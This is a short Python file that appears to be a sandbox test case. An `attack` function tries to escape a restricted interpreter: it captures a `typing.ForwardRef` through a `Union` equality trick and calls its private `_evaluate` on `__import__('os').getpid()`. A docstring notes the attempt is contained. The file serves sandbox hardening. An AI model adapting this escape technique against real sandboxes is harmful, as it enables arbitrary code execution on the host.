"""Has `contextmanager` copy all that a class has onto a function, and `wraps` onto one of its own.

There private names could be read: those of `ForwardRef`, one of which evaluates text.

Contained: `type` does not hand out the classes of `typing`.
"""

from contextlib import contextmanager
from functools import wraps
from typing import Union

TEXT = "__import__('os').getpid()"
CAUGHT = []


class Twin:
    def __call__(self):
        return None

    def __eq__(self, other):
        CAUGHT.append(other)
        return False

    def __hash__(self):
        return hash((TEXT, None))


def reference():
    """A forward reference of the library, which evaluates text by a private method."""
    try:
        Union[Twin(), TEXT]
    except TypeError:
        pass
    return next(one for one in CAUGHT if type(one).__name__ == "ForwardRef")


def attack():
    found = reference()

    @wraps(contextmanager(type(found)))
    def own():
        pass

    return f"escaped: {own._evaluate(found, {}, {}, frozenset())}"
